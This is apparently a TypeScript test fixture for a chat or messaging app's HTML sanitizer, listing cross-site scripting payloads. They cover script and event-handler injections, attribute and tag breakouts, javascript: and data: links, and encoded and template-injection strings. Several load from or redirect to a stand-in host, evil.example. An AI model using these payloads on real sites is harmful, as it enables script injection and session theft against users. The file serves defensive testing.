// Texts that try to become markup, script or something to fetch. In each, `ran()` is what must never run: browser.ts
// tells the test when it does. One line each, with no character that the server takes out of what people write.

/** Into text between elements. */
const elements = [
	"<script>ran(1)</script>",
	"<scr<script>ipt>ran(2)</scr</script>ipt>",
	"</script><script>ran(4)</script>",
	"<script type=module>import('//evil.example')</script>",
	"<img src=x onerror=ran(5)>",
	"<IMG SRC=x OnErRoR=ran(8)//",
	"<img src=//evil.example/pixel.png>",
	"<svg/onload=alert(10)>",
	"<svg><script>ran(11)</script></svg>",
	"<svg><animate onbegin=ran(12) attributeName=x dur=1s>",
	"<svg><a xlink:href=javascript:ran(13)><text>x</text></a></svg>",
	"<svg><style><img src=x onerror=ran(14)></style></svg>",
	"<math><mtext><img src=x onerror=ran(15)></mtext></math>",
	"<iframe src=javascript:ran(17)></iframe>",
	"<iframe srcdoc='<script>ran(18)</script>'></iframe>",
	"<object data=javascript:ran(19)></object>",
	"<body onload=ran(20)>",
	"<details open ontoggle=ran(21)>x</details>",
	"<video src=x onerror=ran(22)></video>",
	"<input autofocus onfocus=ran(24)>",
	"<textarea autofocus onfocus=ran(26)>",
	"<div style=animation-name:x onanimationstart=ran(28)>",
	"<a href=javascript:ran(29)>clic</a>",
	"<a href='data:text/html,<script>ran(30)</script>'>clic</a>",
	"<form action=javascript:ran(31)><button>clic</button></form>",
	"<base href=//evil.example/>",
	"<meta http-equiv=refresh content='0;url=//evil.example'>",
	"<link rel=stylesheet href=//evil.example/x.css>",
	"<style>@import '//evil.example/x.css';</style>",
	"<noscript><p title='</noscript><img src=x onerror=ran(33)>'>",
	"<x onclick=ran(34) tabindex=0>clic</x>",
	"<!--><img src=x onerror=ran(35)>-->",
	"<?xml version='1.0'?><script>ran(37)</script>",
	"<<script>ran(38);//<</script>",
	"<li class=msg id=m1>fausse ligne</li>",
	"</ol></div></section><h1>fausse page</h1>",
];

/** Out of an attribute, a text field or the title. */
const breakouts = [
	'"><img src=x onerror=ran(40)>',
	"'><img src=x onerror=ran(41)>",
	'" onmouseover="ran(42)" x="',
	"' onfocus='ran(43)' autofocus='",
	'" style="position:fixed;inset:0',
	"</textarea><script>ran(44)</script>",
	"</title><script>ran(45)</script>",
	"</option></select><img src=x onerror=ran(46)>",
	"`-ran(47)-`",
	"';ran(48);//",
];

/** What a link or a mention is made of. */
const linked = [
	"javascript:ran(50)",
	"jAvAsCrIpT:ran(51)",
	"data:text/html;base64,PHNjcmlwdD5yYW4oNTMpPC9zY3JpcHQ+",
	'http://x.example/"onmouseover="ran(54)',
	"https://x.example/'><img src=x onerror=ran(55)>",
	"http://x.example/<script>ran(56)</script>",
	"www.x.example/\"style='x",
	"@<img src=x onerror=ran(58)>",
	"@Alice<img src=x onerror=ran(59)>",
	"@Alice\"onclick='ran(60)'",
];

/** What a decoder or a template may take for something else. */
const encoded = [
	"&lt;img src=x onerror=ran(70)&gt;",
	"%3Cimg%20src=x%20onerror=ran(72)%3E",
	"\\u003cimg src=x onerror=ran(73)\\u003e",
	"＜img src=x onerror=ran(74)＞",
	"{{constructor.constructor('ran(75)')()}}",
	"#{ran(76)} $[ran(76)]",
	"[x](javascript:ran(78))",
	"![x](//evil.example/y.png)",
	"__proto__",
	"&amp;&quot;&#39;&nbsp;",
];

export const payloads: readonly string[] = [
	...elements,
	...breakouts,
	...linked,
	...encoded,
];
